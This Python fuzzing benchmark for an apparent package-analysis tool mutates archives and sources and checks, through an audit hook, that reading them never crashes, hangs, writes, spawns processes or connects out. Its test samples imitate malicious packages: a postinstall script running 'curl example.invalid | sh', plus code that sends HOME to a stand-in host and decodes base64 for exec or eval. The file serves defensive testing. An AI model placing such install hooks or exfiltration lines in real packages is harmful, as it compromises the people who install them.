"""Mutated archives and sources: nothing may crash, hang or write.

``python -m benchmarks.fuzz --cases 10000`` builds inert packages, damages them (bits, chunks, lengths, truncation,
inside and outside of the compression), reads every one completely and, when extraction is there, extracts its features.
A case fails when anything but a :class:`darnel.errors.DarnelError` comes out, when it takes longer than ``--seconds``,
or when the process opens a file for writing, changes the file system, starts a process or connects anywhere.
Every case is reproducible: ``--seed S --case N`` runs it alone.
"""

from __future__ import annotations

import argparse
import faulthandler
import json
import os
import random
import resource
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from darnel.errors import DarnelError
from darnel.features.analyse import FAILED
from darnel.features.anomalies import values
from darnel.features.extract import extract
from darnel.features.package import Ecosystem, MemoryPackage, Package
from darnel.features.readers import open_package
from tests import builders

PYTHON = b"""# inert sample
import base64, os as o
from subprocess import Popen as P
def send(data):
    host = "https://" + ".".join(["collect", "example", "invalid"])
    return [chr(c) for c in data], f"{host}/{o.environ.get('HOME')!r}"
class A:
    def run(self): exec(base64.b64decode("cHJpbnQoMSk="))
try:
    send(b"\\x00\\xff")
except Exception: pass
"""
JAVASCRIPT = b"""// inert sample
const {exec: x} = require("child_process"), _0x1f = ["a", "b"];
(async () => { try { await fetch(`https://example.invalid/${process.env.HOME}`) } catch {} })();
const view = <div onClick={() => eval(atob("MQ=="))}>{/* jsx */}</div>;
"""
MANIFEST = (
    b'{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node index.js && curl example.invalid | sh"}}'
)

_WRITING = frozenset(
    """
    os.mkdir os.remove os.rename os.rmdir os.link os.symlink os.chmod os.chown os.truncate os.utime os.setxattr
    shutil.copyfile shutil.move shutil.rmtree tempfile.mkstemp tempfile.mkdtemp subprocess.Popen os.system os.exec
    os.posix_spawn os.spawn os.fork os.startfile socket.connect socket.sendto socket.getaddrinfo
    """.split()  # noqa: SIM905
)


@dataclass
class Watch:
    """Audit hook that notes every attempt to write, spawn or connect while it is armed."""

    armed: bool = False
    seen: list[str] = field(default_factory=list)

    def install(self) -> None:
        """Add the hook, for the rest of the process."""
        sys.addaudithook(self._hook)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.armed:
            return
        if event == "open":
            mode, flags = arguments[1], arguments[2]
            writes = isinstance(mode, str) and not set("wax+").isdisjoint(mode)
            opens = isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
            if writes or opens:
                self.seen.append(f"open {arguments[0]!r} {mode} {flags}")
        elif event in _WRITING:
            self.seen.append(event)

    @contextmanager
    def arm(self) -> Iterator[None]:
        """Watch inside the block."""
        self.armed, self.seen = True, []
        try:
            yield
        finally:
            self.armed = False


def seeds() -> list[tuple[bytes, str]]:
    """(archive without its compression, compression) of everything that is mutated."""
    files: builders.Files = {
        "pkg/a.py": PYTHON,
        "pkg/b.js": JAVASCRIPT,
        "package.json": MANIFEST,
        "inner.zip": builders.zipped({"x/y.py": PYTHON, "z.txt": b"z" * 3000}),
        "inner.tgz": builders.npm(files={"c.js": JAVASCRIPT}),
        "data.xz": builders.compress(b"d" * 5000, "xz"),
    }
    plain = builders.sdist(files=files, how="")
    out = [(plain, how) for how in ("", "gz", "bz2", "xz")]
    out += [(builders.sdist(files=files, how="zip"), ""), (builders.wheel(files=files), ""), (builders.yarn_zip(), "")]
    out += [(builders.zipped(files, method=method), "") for method in (0, 12, 14)]
    out *= 6  # whole packages are worth more damage than the small hostile ones
    out += [(data, how) for data, _ in builders.hostile_tars().values() for how in ("", "gz")]
    out += [(data, "") for data, _ in builders.hostile_zips().values()]
    return out


def mutate(data: bytes, other: bytes, rng: random.Random) -> bytes:
    """One to eight damages: bits, bytes, numbers, truncation, removed, repeated, spliced and zeroed chunks."""
    out = bytearray(data)
    for _ in range(rng.choice((1, 1, 2, 3, 8))):
        if not out:
            break
        at = rng.randrange(len(out))
        length = rng.choice((1, 4, 16, 512, max(1, len(out) // 4)))
        match rng.randrange(9):
            case 0:
                out[at] ^= 1 << rng.randrange(8)
            case 1:
                out[at] = rng.randrange(256)
            case 2:
                out[at : at + 4] = rng.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\xff\xff\xff\x7f", b"\1\0\0\0"))
            case 3:
                del out[at:]
            case 4:
                del out[at : at + length]
            case 5:
                out[at:at] = out[at : at + length]
            case 6:
                start = rng.randrange(len(other)) if other else 0
                out[at : at + length] = other[start : start + length]
            case 7:
                out[at : at + length] = bytes(length)
            case _:
                block = at // 512 * 512
                out[block:block] = rng.choice((bytes(512), rng.randbytes(512), bytes(out[:512])))
    return bytes(out)


def package_of(case: int, seed: int, pool: list[tuple[bytes, str]]) -> Callable[[], Package]:
    """What opens the case's package: a damaged archive, or (one in five) intact files with damaged sources."""
    rng = random.Random(f"{seed}:{case}")
    data, how = rng.choice(pool)
    other = rng.choice(pool)[0]
    if case % 5 == 4:
        texts = {
            "setup.py": PYTHON,
            "index.js": JAVASCRIPT,
            "package.json": MANIFEST,
            "view.tsx": JAVASCRIPT,
            "pkg/__init__.py": PYTHON,
        }
        files = {path: mutate(text, rng.choice((PYTHON, JAVASCRIPT, other)), rng) for path, text in texts.items()}
        return lambda: MemoryPackage(files, ecosystem=rng.choice(list(Ecosystem)))
    if rng.random() < 0.7:
        data = mutate(data, other, rng)
    data = builders.compress(data, how)
    if rng.random() < 0.5:
        data = mutate(data, other, rng)
    return lambda: open_package(data)


def judge(package: Package) -> int:
    """Read everything; how many members there were."""
    count = 0
    for member in package.members():
        count += 1
        assert member.path, "a member without a path"
        assert len(member.data) <= member.size, f"{member.path}: more data than size"
        assert ".." not in member.path.split("/"), f"{member.path}: climbs out"
    values(package.anomalies)
    for file in extract(package)["files"]:
        assert FAILED not in file["cut"], f"{file['path']}: the analyser failed"
    return count


def run(cases: range, seed: int, seconds: float, watch: Watch, progress: bool = False) -> dict[str, Any]:
    """Run ``cases``; a report with every failure."""
    pool = seeds()
    results: Counter[str] = Counter()
    failures: list[str] = []
    slowest = (0.0, -1)
    members = 0
    # Lazy imports happen before anything is watched.
    for opener in (package_of(case, seed, pool) for case in range(10)):
        try:
            judge(opener())
        except DarnelError:
            continue
    for case in cases:
        opener = package_of(case, seed, pool)
        if seconds:
            faulthandler.dump_traceback_later(10 * seconds, exit=True)
        started = time.perf_counter()
        with watch.arm():
            try:
                members += judge(opener())
                results["read"] += 1
            except DarnelError as error:
                results["refused"] += 1
                if "\n" in str(error):
                    failures.append(f"case {case}: error message of several lines")
            except Exception as error:  # what this is here to find
                failures.append(f"case {case}: {type(error).__name__}: {error}"[:300])
        spent = time.perf_counter() - started
        failures += [f"case {case}: {event}" for event in watch.seen]
        slowest = max(slowest, (spent, case))
        if seconds and spent > seconds:
            failures.append(f"case {case}: {spent:.1f} s")
        if progress and (case + 1) % 500 == 0:
            print(f"{case + 1} cases, {len(failures)} failures", file=sys.stderr)
    faulthandler.cancel_dump_traceback_later()
    return {
        "seed": seed,
        "cases": len(cases),
        "extraction": extract is not None,
        **results,
        "members": members,
        "slowest_seconds": round(slowest[0], 3),
        "slowest_case": slowest[1],
        "peak_rss_mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024,
        "failures": failures,
    }


def main() -> int:
    """Command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--cases", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=20_260_601)
    parser.add_argument("--case", type=int, help="run only this one")
    parser.add_argument("--seconds", type=float, default=10.0, help="longest a case may take")
    options = parser.parse_args()
    sys.dont_write_bytecode = True
    watch = Watch()
    watch.install()
    cases = range(options.cases) if options.case is None else range(options.case, options.case + 1)
    report = run(cases, options.seed, options.seconds, watch, progress=True)
    print(json.dumps(report, indent=2))
    return bool(report["failures"])


if __name__ == "__main__":
    sys.exit(main())
